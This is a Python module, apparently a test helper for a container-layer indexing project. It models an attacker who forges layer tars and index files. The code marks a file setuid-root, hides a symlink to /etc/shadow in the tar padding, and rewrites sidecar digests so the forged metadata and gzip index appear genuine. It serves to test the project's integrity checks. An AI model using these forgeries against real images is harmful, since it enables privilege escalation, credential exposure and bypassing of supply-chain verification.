"""The attacker of issue 14 item 1, with the project's own tools: someone who can push to the
image's repository (and read its blobs) but cannot change the image.

forge_tar(): a copy of a layer's tar whose first regular file header says mode 4755, uid 0,
and whose end-of-archive padding holds an extra symlink `evil-link -> /etc/shadow` (data
offsets unchanged). forge_index(): the index files of the genuine blob with the meta replaced
by one built from that tar (stamped with the genuine blob's digest), the sidecar re-written to
vouch for it; forge_zinfo(): checkpoint 1 moved to uncompressed offset 0, sidecar re-written.
"""

from __future__ import annotations

import json
import tarfile
from dataclasses import dataclass
from pathlib import Path

from hybrid_erofs.gzindex.format import Checkpoint, GzipIndex, dump_index, parse_index
from hybrid_erofs.gzindex.sidecar import sha256_digest, sidecar_path
from hybrid_erofs.indexing.layer import index_layer
from hybrid_erofs.trust.binding import stamp_meta

BLOCK = 512
EVIL_LINK = "evil-link"
EVIL_TARGET = "/etc/shadow"


def _checksum(header: bytearray) -> None:
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)


def _octal(value: int, width: int) -> bytes:
    return b"%0*o\0" % (width - 1, value)


def find_file(tar: bytes, target: str | None = None) -> tuple[int, str]:
    """(header offset, name) of the regular file `target` (ustar header, type 0), or of the
    first one that is not a whiteout."""
    offset = 0
    while offset + BLOCK <= len(tar):
        header = tar[offset:offset + BLOCK]
        if header == bytes(BLOCK):
            break
        size = int(header[124:136].split(b"\0")[0].strip() or b"0", 8)
        if header[156:157] in (b"0", b"\0") and header[:1] != b"\0":
            name = header[:100].split(b"\0")[0].decode()
            prefix = header[345:500].split(b"\0")[0].decode()
            name = f"{prefix}/{name}" if prefix else name
            if (name == target or target is None) and ".wh." not in name:
                return offset, name
        offset += BLOCK + -(-size // BLOCK) * BLOCK
    raise ValueError(f"no regular file {target or ''} in the tar")


def forge_tar(tar: bytes, target: str | None = None) -> tuple[bytes, str]:
    """The forged tar and the name of the file made setuid-root (`target`, or the first)."""
    forged = bytearray(tar)
    offset, name = find_file(tar, target)
    header = bytearray(forged[offset:offset + BLOCK])
    header[100:108] = _octal(0o4755, 8)
    header[108:116] = _octal(0, 8)
    header[116:124] = _octal(0, 8)
    _checksum(header)
    forged[offset:offset + BLOCK] = header
    end = _end_of_archive(tar)
    link = tarfile.TarInfo(EVIL_LINK)
    link.type, link.linkname, link.mtime = tarfile.SYMTYPE, EVIL_TARGET, 1700000000
    extra = link.tobuf(tarfile.USTAR_FORMAT)
    assert len(extra) == BLOCK and end + BLOCK + 2 * BLOCK <= len(tar), "no padding to hide in"
    forged[end:end + BLOCK] = extra
    return bytes(forged), name


def _end_of_archive(tar: bytes) -> int:
    offset = 0
    while tar[offset:offset + BLOCK] != bytes(BLOCK):
        size = int(tar[offset + 124:offset + 136].split(b"\0")[0].strip() or b"0", 8)
        offset += BLOCK + -(-size // BLOCK) * BLOCK
    return offset


@dataclass(frozen=True)
class ForgedIndex:
    meta: Path
    zinfo: Path
    setuid_file: str


def forge_index(genuine_blob: Path, layer_tar: bytes, out: Path, *, aufs: bool = False,
                uuid: bytes | None = None, build_time: int = 0, target: str | None = None,
                names: tuple[str, str] = ("m.erofs", "layer.zinfo")) -> ForgedIndex:
    """Genuine zinfo and sidecar of `genuine_blob`, a meta built from the forged tar."""
    out.mkdir(parents=True, exist_ok=True)
    zinfo, meta = out / names[1], out / names[0]
    index_layer(str(genuine_blob), zinfo=zinfo, meta=meta, aufs=aufs, uuid=uuid,
                build_time=build_time, root_owner=(0, 0))
    forged, name = forge_tar(layer_tar, target)
    forged_tar = out / "forged.tar"
    forged_tar.write_bytes(forged)
    forged_meta = out / "forged.erofs"
    index_layer(str(forged_tar), zinfo=None, meta=forged_meta, aufs=aufs, uuid=uuid,
                build_time=build_time, root_owner=(0, 0))
    blob_digest = json.loads(sidecar_path(zinfo).read_text())["blob"]["digest"]
    meta_bytes = stamp_meta(forged_meta.read_bytes(), blob_digest)
    meta.write_bytes(meta_bytes)
    side = json.loads(sidecar_path(zinfo).read_text())
    side["meta"].update(digest=sha256_digest(meta_bytes), size=len(meta_bytes))
    sidecar_path(zinfo).write_text(json.dumps(side, indent=1, sort_keys=True) + "\n")
    forged_tar.unlink()
    forged_meta.unlink()
    return ForgedIndex(meta, zinfo, name)


def forge_zinfo(zinfo: Path) -> None:
    """Checkpoint 1 says uncompressed offset 0 (reads at 0 would decode from the middle of
    the stream); the sidecar is re-written to vouch for the new zinfo."""
    index = parse_index(zinfo.read_bytes())
    assert len(index.checkpoints) > 1, "the layer needs two checkpoints (a smaller --span)"
    cps = list(index.checkpoints)
    cps[1] = Checkpoint(cps[1].in_offset, 0, cps[1].bits, cps[1].window)
    data = dump_index(GzipIndex(index.span, tuple(cps)))
    zinfo.write_bytes(data)
    side = json.loads(sidecar_path(zinfo).read_text())
    side["zinfo"].update(digest=sha256_digest(data), size=len(data))
    sidecar_path(zinfo).write_text(json.dumps(side, indent=1, sort_keys=True) + "\n")

